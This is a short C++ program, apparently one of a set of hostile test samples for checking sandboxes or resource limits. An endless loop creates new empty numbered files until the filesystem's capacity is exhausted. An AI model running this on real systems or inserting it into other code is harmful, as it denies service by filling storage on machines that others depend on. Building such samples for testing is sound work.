// Makes empty files without end.
// SPDX-License-Identifier: MIT
#include "hostile.hpp"
#include <string>

int main() {
    for (int i = 0;; ++i) {
        ::close(::open(std::to_string(i).c_str(), O_WRONLY | O_CREAT, 0600));
    }
}
